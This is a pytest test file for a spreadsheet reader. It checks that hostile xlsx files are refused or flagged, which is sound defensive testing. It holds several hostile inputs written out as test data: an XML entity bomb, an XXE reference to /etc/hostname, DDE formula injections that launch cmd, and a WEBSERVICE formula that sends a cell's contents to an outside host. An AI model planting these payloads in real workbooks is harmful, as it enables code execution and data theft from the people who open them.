"""XML that bursts, sheets without end, and what a file holds beside cells: refused, or said in a note."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Final

import pytest

from support.hostile import MAIN, PLAIN, SHEET, TYPES, looked_at, refusal, zipped
from wbgen.files.findings import Kind
from wbgen.files.xlsx.addresses import letters
from wbgen.files.xlsx.refusal import Limits


def sheet(cells: str, after: str = "") -> bytes:
    return b"<worksheet" + MAIN + f"><sheetData>{cells}</sheetData>{after}</worksheet>".encode()


def formula(text: str) -> bytes:
    return sheet(f'<row r="1"><c r="A1"><f>{text}</f></c></row>')


BOMB = '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><worksheet>&b;</worksheet>'
OUTSIDE = '<!DOCTYPE worksheet SYSTEM "file:///etc/hostname"><worksheet/>'


@pytest.mark.parametrize("text", [BOMB, OUTSIDE, '<?xml version="1.0"?><!-- a --><!DOCTYPE worksheet><worksheet/>'])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("part", [SHEET, "docProps/app.xml", "xl/_rels/workbook.xml.rels", "xl/media/image1.png"])
def test_a_document_type_is_refused_in_any_part_and_encoding(
    tmp_path: Path, text: str, encoding: str, part: str
) -> None:
    marked = text.encode(encoding)
    if encoding in ("utf-16-le", "utf-16-be"):
        marked = "\ufeff".encode(encoding) + marked
    assert refusal(tmp_path, zipped({**PLAIN, part: marked})).code == "document-type"


def test_a_document_type_is_refused_in_utf_16_without_its_mark(tmp_path: Path) -> None:
    for encoding in ("utf-16-le", "utf-16-be"):
        assert refusal(tmp_path, zipped({**PLAIN, SHEET: BOMB.encode(encoding)})).code == "document-type"


@pytest.mark.parametrize("encoding", ["utf-7", "utf-32", "iso-8859-1", "cp037"])
def test_another_encoding_is_refused(tmp_path: Path, encoding: str) -> None:
    content = f'<?xml version="1.0" encoding="{encoding}"?>{BOMB}'.encode(encoding)
    assert refusal(tmp_path, zipped({**PLAIN, SHEET: content})).code in ("odd-encoding", "damaged-file")


def test_bottomless_nesting_is_refused(tmp_path: Path) -> None:
    deep = b"<a>" * 200_000 + b"</a>" * 200_000
    assert refusal(tmp_path, zipped({**PLAIN, SHEET: deep}), Limits(ratio=10_000)).code == "too-deep"


def test_xml_that_is_not_well_formed_is_refused_but_in_drawings_of_comments(tmp_path: Path) -> None:
    assert refusal(tmp_path, zipped({**PLAIN, SHEET: b"<worksheet><row></worksheet>"})).code == "damaged-file"
    looked_at(tmp_path, zipped({**PLAIN, "xl/drawings/v.vml": b"<xml><br>text</xml>" + bytes(70_000)}))
    assert refusal(tmp_path, zipped({**PLAIN, "xl/drawings/v.vml": BOMB.encode()})).code == "document-type"
    assert refusal(tmp_path, zipped({**PLAIN, "xl/drawings/v.vml": b"text"})).code == "damaged-file"


@pytest.mark.parametrize(
    "cells",
    [
        '<row r="1"><c r="A1"/></row><row r="1048576"><c r="XFD1048576"/></row>',
        '<row r="1"><c/></row><row r="9999999"><c/><c/></row>',
    ],
)
def test_cells_far_apart_are_refused_with_advice(tmp_path: Path, cells: str) -> None:
    refused = refusal(tmp_path, zipped({**PLAIN, SHEET: sheet(cells)}))
    assert refused.code == "too-wide"
    assert "delete" in refused.remedy


GRIDS: Final = [(1_048_576, 16_384), (1_048_576, 9), (300_000, 400), (2_000, 1_000), (40, 16_384), (1_000_000, 1)]


@pytest.mark.parametrize(("rows", "columns"), GRIDS)
def test_a_cell_far_from_the_first_is_refused_where_a_grid_to_it_would_be_large(
    tmp_path: Path, rows: int, columns: int
) -> None:
    far = f'<row r="{rows}"><c r="{letters(columns - 1)}{rows}"><v>1</v></c></row>'
    content = zipped({**PLAIN, SHEET: sheet(far)})
    if rows * columns > Limits().grid:
        refused = refusal(tmp_path, content)
        assert (refused.code, "all but 1 of the cells empty" in refused.found) == ("too-wide", True)
    else:
        assert looked_at(tmp_path, content).notes == ()


def test_shared_texts_fill_a_grid_and_lie_far_as_numbers_do(tmp_path: Path) -> None:
    texts = {**PLAIN, "xl/sharedStrings.xml": b"<sst" + MAIN + b"><si><t>a</t></si></sst>"}
    limits = Limits(grid=100, emptiness=4)
    rows = [f'<row r="{row}"><c r="A{row}" t="s"><v>0</v></c></row>' for row in range(1, 102)]
    looked_at(tmp_path, zipped({**texts, SHEET: sheet("".join(rows))}), limits)
    assert refusal(tmp_path, zipped({**texts, SHEET: sheet("".join(rows[::5]))}), limits).code == "too-wide"


def test_a_large_grid_that_is_filled_is_opened(tmp_path: Path) -> None:
    limits = Limits(grid=100, emptiness=4)
    rows = [f'<row r="{row}"><c r="A{row}"><v>1</v></c></row>' for row in range(1, 102)]
    looked_at(tmp_path, zipped({**PLAIN, SHEET: sheet("".join(rows))}), limits)
    sparse = "".join(rows[::5])
    assert refusal(tmp_path, zipped({**PLAIN, SHEET: sheet(sparse)}), limits).code == "too-wide"


@pytest.mark.parametrize("number", [3, 4, 5])
def test_more_formulas_than_a_planner_has_are_refused_however_they_are_stored(tmp_path: Path, number: int) -> None:
    limits = Limits(formulas=4)
    first = '<f t="shared" ref="A1:A9" si="0">B1+1</f>'
    for formulas in (["<f>1+1</f>"] * number, [first, *['<f t="shared" si="0"/>'] * (number - 1)]):
        rows = "".join(f'<row r="{at}"><c r="A{at}">{one}</c></row>' for at, one in enumerate(formulas, 1))
        content = zipped({**PLAIN, SHEET: sheet(rows)})
        if number > limits.formulas:
            assert refusal(tmp_path, content, limits).code == "too-large"
        else:
            looked_at(tmp_path, content, limits)


def test_a_single_far_cell_without_a_value_is_no_trouble(tmp_path: Path) -> None:
    assert (
        looked_at(tmp_path, zipped({**PLAIN, SHEET: sheet('<row r="1048576"><c r="XFD1048576"/></row>')})).notes == ()
    )


def test_a_sheet_merged_whole_is_refused(tmp_path: Path) -> None:
    """openpyxl makes a record of each merged cell: 5 million took 51 s and 1.4 GB."""
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    assert refusal(tmp_path, zipped({**PLAIN, SHEET: sheet("", merged)})).code == "too-large"
    looked_at(tmp_path, zipped({**PLAIN, SHEET: sheet("", merged.replace("1048576", "6"))}))


@pytest.mark.parametrize("cells", ['<row r="-1"/>', '<row r="1"><c r="A"/></row>', '<row r="1"><c r="A1٣"/></row>'])
def test_an_address_that_is_none_is_refused(tmp_path: Path, cells: str) -> None:
    assert refusal(tmp_path, zipped({**PLAIN, SHEET: sheet(cells)})).code == "damaged-file"


RELATIONSHIP = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{}" Target="{}" TargetMode="{}"/></Relationships>'
)


@pytest.mark.parametrize(
    ("part", "content", "kind"),
    [
        ("xl/vbaProject.bin", b"\xd0\xcf", Kind.MACROS),
        ("xl/macrosheets/sheet1.xml", b"<macrosheet/>", Kind.MACROS),
        ("customUI/customUI.xml", b"<customUI/>", Kind.MACROS),
        (
            TYPES,
            b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
            Kind.MACROS,
        ),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>", Kind.EXTERNAL_LINK),
        ("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>', Kind.DDE),
        ("xl/connections.xml", b"<connections/>", Kind.DATA_CONNECTION),
        ("xl/queryTables/queryTable1.xml", b"<queryTable/>", Kind.DATA_QUERY),
        ("customXml/item1.xml", b"<DataMashup>AAAA</DataMashup>", Kind.DATA_QUERY),
        ("xl/embeddings/oleObject1.bin", b"\xd0\xcf", Kind.EMBEDDED_OBJECT),
        ("xl/activeX/activeX1.xml", b"<ocx/>", Kind.EMBEDDED_OBJECT),
        (SHEET, formula("cmd|'/c calc'!A0"), Kind.DDE),
        (SHEET, formula("'cmd'|'/c calc'!A0"), Kind.DDE),
        (SHEET, formula('WEBSERVICE("http://example.org/"&amp;A1)'), Kind.REACHES_OUT),
        (SHEET, formula('DDE("soffice","x.ods","A1")'), Kind.REACHES_OUT),
        ("xl/workbook.xml", b"<workbook><definedName name='a'>cmd|'/c calc'!A0</definedName></workbook>", Kind.DDE),
        ("xl/workbook.xml", b'<workbook><sheet name="Old" state="hidden"/></workbook>', Kind.HIDDEN_SHEET),
        ("xl/workbook.xml", b'<workbook><sheet name="Old" state="veryHidden"/></workbook>', Kind.HIDDEN_SHEET),
        (
            "xl/_rels/x.rels",
            RELATIONSHIP.format("attachedTemplate", "//host/x", "External").encode(),
            Kind.OUTSIDE_TARGET,
        ),
    ],
)
def test_what_is_unusual_is_said_and_not_followed(tmp_path: Path, part: str, content: bytes, kind: Kind) -> None:
    package = looked_at(tmp_path, zipped({**PLAIN, part: content}))
    said = [note for note in package.notes if note.kind is kind]
    assert [note.part for note in said] == [part]
    assert said[0].text


@pytest.mark.parametrize(
    ("part", "content"),
    [
        (SHEET, formula('IF(A2="a|b",\'x|y\'!A1,"WEBSERVICE(")')),
        (SHEET, formula("RECALL(A1)")),
        ("xl/_rels/x.rels", RELATIONSHIP.format("hyperlink", "https://example.org/", "External").encode()),
        ("xl/_rels/x.rels", RELATIONSHIP.format("worksheet", "worksheets/sheet1.xml", "Internal").encode()),
        ("xl/workbook.xml", b'<workbook><sheet name="Mix" state="visible"/></workbook>'),
    ],
)
def test_what_is_usual_is_not_said(tmp_path: Path, part: str, content: bytes) -> None:
    assert looked_at(tmp_path, zipped({**PLAIN, part: content})).notes == ()


def test_each_hidden_sheet_is_named(tmp_path: Path) -> None:
    hidden = (
        b'<workbook><sheets><sheet name="One" state="hidden"/><sheet name="Two" state="hidden"/></sheets></workbook>'
    )
    notes = looked_at(tmp_path, zipped({**PLAIN, "xl/workbook.xml": hidden})).notes
    assert [note.text for note in notes] == ["The sheet 'One' is hidden", "The sheet 'Two' is hidden"]


@pytest.mark.parametrize("root", ["workbook", "sst", "styleSheet"])
def test_a_second_part_that_holds_what_there_is_one_of_is_refused(tmp_path: Path, root: str) -> None:
    """Which of the two counts would be each program's choice."""
    parts = {**PLAIN, "xl/one.xml": f"<{root}/>".encode(), "xl/other.xml": f"<{root}/>".encode()}
    assert refusal(tmp_path, zipped(parts)).code == "two-faced"


@pytest.mark.parametrize(
    ("inside", "said"),
    [
        ('<calcPr fullPrecision="off"/>', "fullPrecision='off'"),
        ('<workbookPr date1904="yes"/>', "date1904='yes'"),
        ("<calcPr/><calcPr/>", "calcPr twice"),
    ],
)
def test_a_workbook_that_says_two_things_is_refused(tmp_path: Path, inside: str, said: str) -> None:
    parts = {**PLAIN, "xl/workbook.xml": f"<workbook>{inside}</workbook>".encode()}
    assert said in refusal(tmp_path, zipped(parts)).found


def test_what_others_mean_by_the_same_names_is_theirs(tmp_path: Path) -> None:
    """Elements of another namespace, or deep inside another element, set nothing."""
    inside = (
        '<workbookPr date1904="1"/><calcPr fullPrecision="0"/><extLst><ext xmlns:q="urn:q"><q:calcPr/><q:sheet/>'
        '<q:workbookPr date1904="0"/></ext><ext><calcPr/><workbookPr/><sheet name="Three"/></ext></extLst>'
    )
    words = '<si><q:t xmlns:q="urn:q">false</q:t><t>true</t></si>'
    parts = {**PLAIN, "xl/workbook.xml": f"<workbook>{inside}</workbook>".encode(), "xl/s.xml": _shared(words)}
    index = looked_at(tmp_path, zipped(parts)).index
    assert (index.dates_from_1904, index.full_precision, index.sheets, index.texts) == (True, False, [], ["true"])


def _shared(words: str) -> bytes:
    return f"<sst>{words}</sst>".encode()


@pytest.mark.parametrize(
    ("number", "said", "code"),
    [
        (2, None, "0.00"),
        (2, "0.00", "0.00"),
        (2, "0%", "[built-in 2]"),
        (27, None, "[built-in 27]"),
        (27, "0.0", "[built-in 27]"),
        (44, "0.0", "0.0"),
        (164, "0.0", "0.0"),
        (165, None, "General"),
    ],
)
def test_a_number_of_a_format_means_what_all_programs_take_it_for(
    tmp_path: Path, number: int, said: str | None, code: str
) -> None:
    own = "" if said is None else f'<numFmts><numFmt numFmtId="{number}" formatCode="{said}"/></numFmts>'
    styles = f'<styleSheet>{own}<cellXfs><xf numFmtId="{number}"/></cellXfs></styleSheet>'.encode()
    assert looked_at(tmp_path, zipped({**PLAIN, "xl/styles.xml": styles})).index.format_of(0) == code


@pytest.mark.parametrize("wrap", [lambda text: f"<worksheet>{text}", lambda text: f"<worksheet {text}/>"])
def test_noise_in_place_of_a_sheet_is_refused(tmp_path: Path, wrap: Callable[[str], str]) -> None:
    for noise in ("&a;", "\x01", "<", "]]>", "r='"):
        assert refusal(tmp_path, zipped({**PLAIN, SHEET: wrap(noise).encode()})).code == "damaged-file"


ONE = '<c r="A1"><f>A2</f><v>1</v></c>'


@pytest.mark.parametrize(
    ("rows", "said"),
    [
        (f'<row r="1">{ONE}{ONE}</row>', "a cell A1 out of its order"),
        (f'<row r="1"><c r="B1"/>{ONE}</row>', "a cell A1 out of its order"),
        (f'<row r="2">{ONE}</row>', "a cell A1 out of its order"),
        (f'<row r="1">{ONE}</row><row r="1">{ONE}</row>', "row 1 after row 1"),
        ('<row r="1"><c r="A1"><f>A2</f><f>A3</f></c></row>', "two formulas in row 1, column 1"),
        ('<row r="1"><c r="A1"><v>1</v><v>2</v></c></row>', "two values in row 1, column 1"),
        ('<row r="1"><c r="A1"><x:f xmlns:x="urn:x">A2</x:f></c></row>', "a foreign 'f' among its cells"),
        ('<row r="1"><c r="A1"><v xmlns="urn:x">1</v></c></row>', "a foreign 'v' among its cells"),
        ('<row r="1"><x:c xmlns:x="urn:x" r="A1"/></row>', "a foreign 'c' among its cells"),
    ],
)
def test_cells_that_other_readers_read_otherwise_are_refused(tmp_path: Path, rows: str, said: str) -> None:
    refused = refusal(tmp_path, zipped({**PLAIN, SHEET: sheet(rows)}))
    assert refused.code == "damaged-file"
    assert said in refused.found


def test_a_prefix_of_the_right_kind_and_foreign_parts_outside_the_cells_are_read(tmp_path: Path) -> None:
    prefixed = b"<x:worksheet" + MAIN.replace(b"xmlns", b"xmlns:x") + (
        b'><x:sheetData><x:row r="1"><x:c r="A1"><x:f>A2*2</x:f><x:v>1</x:v></x:c></x:row></x:sheetData>'
        b'<x:extLst><y:f xmlns:y="urn:y">Mix!A1</y:f></x:extLst></x:worksheet>'
    )  # fmt: skip
    content = looked_at(tmp_path, zipped({**PLAIN, SHEET: prefixed})).sheets[SHEET]
    assert (content.formulas, content.values) == ({0: {0: "A2*2"}}, {0: {0: 1.0}})


@pytest.mark.parametrize("text", ["24_0", "\uff12\uff14\uff10", "nan", "inf", "0x10", "1 2"])
def test_what_is_no_number_to_a_spreadsheet_is_none_here(tmp_path: Path, text: str) -> None:
    content = looked_at(tmp_path, zipped({**PLAIN, SHEET: sheet(f'<row><c r="A1"><v>{text}</v></c></row>')})).sheets[
        SHEET
    ]
    assert content.values[0][0] == text


def test_rows_and_columns_that_are_as_good_as_hidden_are_told(tmp_path: Path) -> None:
    before = '<sheetViews><sheetView showZeros="0"/></sheetViews><cols><col min="2" max="3" width="0.1"/></cols>'
    rows = '<row r="1" ht="0.5"><c r="A1"><v>1</v></c></row><row r="2" ht="12.8"/>'
    whole = b"<worksheet" + MAIN + f">{before}<sheetData>{rows}</sheetData></worksheet>".encode()
    content = looked_at(tmp_path, zipped({**PLAIN, SHEET: whole})).sheets[SHEET]
    assert (content.hidden_rows, content.hidden_columns, content.hides_zeros) == ([0], [(1, 2)], True)


def test_a_sheet_of_an_unknown_kind_is_refused(tmp_path: Path) -> None:
    assert refusal(tmp_path, zipped({**PLAIN, SHEET: b'<worksheet xmlns="urn:x"/>'})).code == "damaged-file"
